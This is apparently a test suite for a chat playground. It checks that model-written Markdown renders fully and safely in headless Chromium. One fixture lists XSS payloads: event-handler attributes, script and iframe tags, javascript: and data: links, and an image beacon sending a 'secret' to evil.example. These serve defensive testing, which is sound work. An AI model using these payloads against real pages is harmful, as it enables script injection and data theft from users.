"""A model's Markdown on the page, in headless Chromium under its policy: all of it is shown, and nothing hostile
runs.
"""

from __future__ import annotations

import json
import random

from tests.server.browser import ENTER
from tests.server.playground_page import ask, open_page, speaking

MARKDOWN = r"""# Sorting

Use **`sorted`** for a *new* list, or [the method](https://docs.python.org/3/), ~~never both~~.
Second line, see [the docs][docs] &amp; 1 < 2.

1. one $O(n \log n)$
   - nested
2. two

| left | right |
|:--|--:|
| `a` | 12 |

```python
def f(x: int) -> str:
    return "<b>"  # note
```

> \(a_1\) quoted

$$
\frac{a}{b}
= c
$$

- [x] done

It costs $5 or $10.

---

[docs]: https://example.org/docs
"""
SHAPE = """(function shape(node) {
    if (node.nodeType === 3) return node.data.trim() ? node.data : null;
    if (["span", "div"].includes(node.localName)) return [...node.childNodes].flatMap(n => [shape(n)]).filter(Boolean);
    return [node.localName, ...[...node.childNodes].map(shape).filter(Boolean)];
})(document.querySelector('.assistant .text'))"""
TEXT = "document.querySelector('.assistant .text').textContent"


def pieces_of(text: str, seed: int) -> list[str]:
    cuts = sorted(random.Random(seed).sample(range(1, len(text)), len(text) // 4))
    return [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def flat(shape) -> str:
    return json.dumps(shape, ensure_ascii=False)


def test_everything_is_shown(browser):
    with speaking([MARKDOWN]) as server:
        open_page(browser, server)
        ask(browser, "Hi")
        shape = flat(browser.js(SHAPE))
        for part in (
            ["h3", "Sorting"],
            ["strong", ["code", "sorted"]],
            ["em", "new"],
            ["a", "the method"],
            ["del", "never both"],
            ["a", "the docs"],
            ["ul", ["li", "nested"]],
            ["th", "right"],
            ["td", ["code", "a"]],
            ["hr"],
        ):
            assert flat(part)[:-1] in shape, part
        assert "& 1 < 2." in browser.js(TEXT)
        assert "☑ done" in browser.js(TEXT)
        assert "It costs $5 or $10." in browser.js(TEXT)
        assert browser.js("[...document.querySelectorAll('.text a')].map(a => [a.href, a.target, a.rel])") == [
            ["https://docs.python.org/3/", "_blank", "noopener noreferrer"],
            ["https://example.org/docs", "_blank", "noopener noreferrer"],
        ]
        assert browser.js("getComputedStyle(document.querySelector('td:last-child')).textAlign") == "right"
        formulas = browser.js(
            "[...document.querySelectorAll('math')].map(m => [m.textContent, m.getAttribute('display')])"
        )
        assert [display for _, display in formulas] == [None, None, "block"]
        assert browser.js("document.querySelectorAll('math mfrac').length") == 1
        code = browser.js(
            "[...document.querySelectorAll('figure')].map(f => [f.firstChild.firstChild.data, f.lastChild.textContent])"
        )
        assert code == [["python", 'def f(x: int) -> str:\n    return "<b>"  # note']]
        assert browser.js("document.querySelector('.hljs-keyword').textContent") == "def"


def test_code_is_copied(browser):
    with speaking(["- in a list:\n  ```\n  a <b>\n    c\n  ```\n\n```py\nx = 1\n```"]) as server:
        open_page(browser, server)
        browser.cdp("Browser.grantPermissions", permissions=["clipboardReadWrite", "clipboardSanitizedWrite"])
        ask(browser, "Hi")
        for which, code in (("li figure", "a <b>\n  c"), (".text > figure", "x = 1")):
            browser.click(f"{which} button")
            browser.wait("navigator.clipboard.readText().then(text => text == args[0])", code)
        browser.wait_for_text("#notice", "Copied the code")


def test_it_does_not_matter_how_the_answer_was_cut(browser):
    """Only the last block is made again while the answer comes: the page at the end is the same."""
    with speaking(pieces_of(MARKDOWN * 3, 1)) as server:
        open_page(browser, server)
        ask(browser, "Hi")
        shape = browser.js(SHAPE)
        addresses = browser.js("[...document.querySelectorAll('.text a')].map(a => a.href)")
        assert addresses == ["https://docs.python.org/3/", "https://example.org/docs"] * 3
        told = browser.js("[...document.querySelectorAll('#spoken p')].map(p => p.textContent)")
        browser.open(server.url)
        browser.wait("document.querySelector('.assistant hr')")
        assert browser.js(SHAPE) == shape, "the kept answer, which is read at once"
        assert told[1].startswith("Use sorted for a new list, or the method")
        assert len(told) == browser.js("document.querySelector('.assistant .text').children.length")


def test_nothing_settled_is_made_again(browser):
    paragraphs = [f"Paragraph {number} with **some** words.\n\n" for number in range(40)]
    with speaking(paragraphs, 0.02) as server:
        open_page(browser, server)
        browser.press("Hi" + ENTER)
        browser.wait("document.querySelectorAll('.assistant .block').length > 5")
        browser.js("(window.early = [...document.querySelectorAll('.assistant .block')].slice(0, 4), 1)")
        browser.wait("document.querySelectorAll('.assistant:not([aria-busy]) .block').length == 40")
        assert browser.js("window.early.every((e, i) => e === document.querySelectorAll('.assistant .block')[i])")


HOSTILE = r"""<img src=x onerror="window.hit = 1"> <script>window.hit = 2</script> <b onclick=1>b</b>

<script>
window.hit = 3
</script>

<style>body { display: none }</style>

<details open ontoggle="window.hit = 4"><summary>s</summary></details>

<iframe srcdoc="<script>parent.hit = 5</script>"></iframe>
<svg onload="window.hit = 6"><a xlink:href="javascript:window.hit=7">

<form action="https://evil.example"><input name=q autofocus></form><base href="https://evil.example/">

<pre>
x < y <img src=x onerror="window.hit = 8">
</pre>

[j](javascript:window.hit=9) [J](JaVaScRiPt&colon;window.hit=9) [t](	java	script:window.hit=9) [v](vbscript:x)
[d](data:text/html,<script>window.hit=10</script>) <javascript:window.hit=11> [rel](/metrics) [r][r]
![beacon](https://evil.example/?secret) ![](javascript:window.hit=12) [q](https://ok.example/"onmouseover="window.hit=13)

```html" onmouseover="window.hit=14
<script>window.hit = 15</script>
```

```<img
x
```

$\href{javascript:window.hit=16}{x}$ $\includegraphics{https://evil.example/x}$ $\htmlStyle{x}{y}$ $\unknown$
$$\def\a{\a\a}\a$$ $\style{color:red;background:url(https://evil.example)}{x}$ $<img src=x onerror=window.hit=17>$

| <script>window.hit=18</script> | `<b>` |
|--|--|
| <img src=x onerror=window.hit=19> | \<b> |

H<sub>2</sub>O a<br>b <sub onclick="window.hit=20">x</sub> <u style="position:fixed">u</u>

[r]: javascript:window.hit=21
[__proto__]: https://proto.example
[a][__proto__] <a id="prompt" name="fetch" href="https://x.example">clobber</a>
"""
SHOWN = ("window.hit = 1", "window.hit = 3", "display: none", "window.hit = 8", "<iframe", "<form", "clobber")
SHOWN += ("x < y <img", "<script>window.hit = 15</script>", "<script>window.hit=18")


def test_hostile_text(browser):
    """The fixture fails if a request goes to another host, or if the console reports a breach of the policy."""
    with speaking(pieces_of(HOSTILE, 2)) as server:
        open_page(browser, server)
        ask(browser, HOSTILE.replace("\n", " ")[:400])
        for _ in range(2):  # as it came, and as it was kept
            text = browser.js(TEXT)
            for part in SHOWN:
                assert part in text, f"{part} is not shown as it was written"
            made = "document.querySelector('#turns').querySelectorAll(args[0]).length"
            assert (
                browser.js(made, "img, script, style, iframe, svg, form, input, base, details, object, [style*=url]")
                == 0
            )
            assert browser.js(made, "a[href^='/'], [id], [name], [onclick], [onerror], [onmouseover], [srcdoc]") == 0
            links = browser.js("[...document.querySelectorAll('#turns a[href]')].map(a => new URL(a.href).protocol)")
            assert set(links) == {"https:"}
            assert browser.js(made, "sub, br") >= 2, "harmless tags"
            browser.js(
                "(document.querySelectorAll('#turns *').forEach(e => e.dispatchEvent(new Event('mouseover'))), 1)"
            )
            browser.js("(document.querySelectorAll('#turns a:not([href])').forEach(a => a.click()), 1)")
            assert browser.js("window.hit === undefined")
            assert browser.js("document.title.includes('window.hit') && document.title.includes('Quire')")
            browser.open(server.url)
            browser.wait("document.querySelector('.assistant table')")


def test_the_policy_stops_what_would_get_through(browser, steady):
    """The second wall: injected markup runs no script and sends no request."""
    open_page(browser, steady)
    refused = browser.js(
        # In a task of the page: the policy does not bind scripts of the driver.
        """new Promise(done => setTimeout(() => done([
            () => document.body.innerHTML = "<b>", () => eval("1"), () => setTimeout("window.hit = 1"),
            () => document.createElement("script").text = "1", () => trustedTypes.createPolicy("mine", {})
        ].map(attack => { try { attack(); return "done"; } catch (error) { return error.name; } }))))"""
    )
    assert refused == ["TypeError", "EvalError", "TypeError", "TypeError", "TypeError"]
    blocked = browser.js(
        """new Promise(done => {
            const seen = [];
            document.addEventListener("securitypolicyviolation", ({effectiveDirective}) => {
                seen.push(effectiveDirective);
                if (seen.length === 2) done(seen.sort());
            });
            const image = document.createElement("img");
            image.src = "/image.png";
            const style = document.createElement("style");
            style.textContent = "body { display: none }";
            document.body.append(image, style);
        })"""
    )
    assert blocked == ["img-src", "style-src-elem"]
    assert browser.js("window.hit === undefined")
    browser.log("browser")  # the breaches were ours


def test_a_line_of_a_megabyte(browser):
    """It comes as it is, in few elements, and the page lives meanwhile; a question may be as long."""
    line = "word **b** [x " * 75_000
    pieces = [line[start : start + 16_384] for start in range(0, len(line), 16_384)]
    with speaking(pieces, 0.03) as server:
        open_page(browser, server)
        browser.js("(window.ticks = 0, setInterval(() => window.ticks++, 20), 1)")
        browser.press("Hi" + ENTER)
        browser.wait("document.querySelectorAll('.assistant:not([aria-busy])').length == 1", seconds=60)
        assert browser.js("window.ticks") > 10, "the page stood still"
        strip = "replace(/[\\s*]/g, '')"  # the first and the last few words may be shown as Markdown
        assert browser.js(f"{TEXT}.{strip} === args[0].{strip}", line)
        assert browser.js("document.querySelectorAll('.assistant *').length") < 1000
        browser.js("(document.querySelector('#prompt').value = args[0].trim(), 1)", line)
        browser.press(ENTER)
        browser.wait("document.querySelectorAll('.assistant:not([aria-busy])').length == 2", seconds=60)
        assert browser.js("document.querySelectorAll('.user .text')[1].textContent === args[0].trim()", line)


def test_inputs_that_parsers_are_slow_on(browser):
    """Time grows with the square of each, or the parser's stack ends: it gets them in pieces."""
    size = 40_000
    texts = ["*a**b_", "[", "> ", "1. ", "`a", "$a ", "$$", "[a](", "<!--", "***a", "- a\n", "|a", "\\(", "![[", "~a "]
    hostile = [part * (length // len(part)) for part in texts for length in (size, 4_990)]
    hostile += ["```java\n" + "$" * size, "```ini\n" + "-" * size, "*" * 2_000 + "a" + "*" * 2_000]
    with speaking(["ok"]) as server:
        open_page(browser, server)
        for text in hostile:
            shown = browser.js(
                """import(new URL("playground/markdown.js", location.href)).then(({ Markdown }) => {
                    const element = document.createElement("div");
                    const markdown = new Markdown(element, () => {});
                    markdown.update(args[0]);
                    markdown.finish();
                    return element.textContent.length;
                })""",
                text,
            )
            assert shown > 0
